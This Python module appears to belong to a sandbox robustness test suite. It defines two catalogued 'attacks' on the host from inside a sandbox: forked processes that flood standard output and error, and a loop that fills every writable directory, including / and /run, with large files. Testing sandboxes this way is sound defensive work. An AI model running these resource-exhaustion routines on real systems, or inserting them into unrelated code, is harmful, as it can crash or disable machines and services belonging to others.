"""Attacks on the organiser's machine from inside the sandbox."""

import contextlib
import multiprocessing
import os
import tempfile
from pathlib import Path

from .catalogue import attack
from .wire import Target

_MIB = 1 << 20


@attack()
def output_flood(target: Target) -> None:
    """Write to standard output and standard error without a pause."""

    def scream(descriptor: int) -> None:
        while target.left_s > 0:
            os.write(descriptor, b"x" * 65_536)

    fork = multiprocessing.get_context("fork")
    children = [fork.Process(target=scream, args=[1 + number % 2]) for number in range(4)]
    for child in children:
        child.start()
    for child in children:
        child.join()


@attack()
def full_disk(target: Target) -> None:
    """Fill every directory that can be written to, and empty it again."""
    places = (tempfile.gettempdir(), "/dev/shm", ".", "/", "/run")
    folders = [name for name in places if os.access(name, os.W_OK)]
    for _ in target.rounds():
        for folder in folders:
            paths = [Path(folder, f"file{number}") for number in range(2_000)]
            with contextlib.suppress(OSError):
                for number, path in enumerate(paths):
                    path.write_bytes(bytes(_MIB if number % 2 else 0))
            for path in paths:
                path.unlink(missing_ok=True)
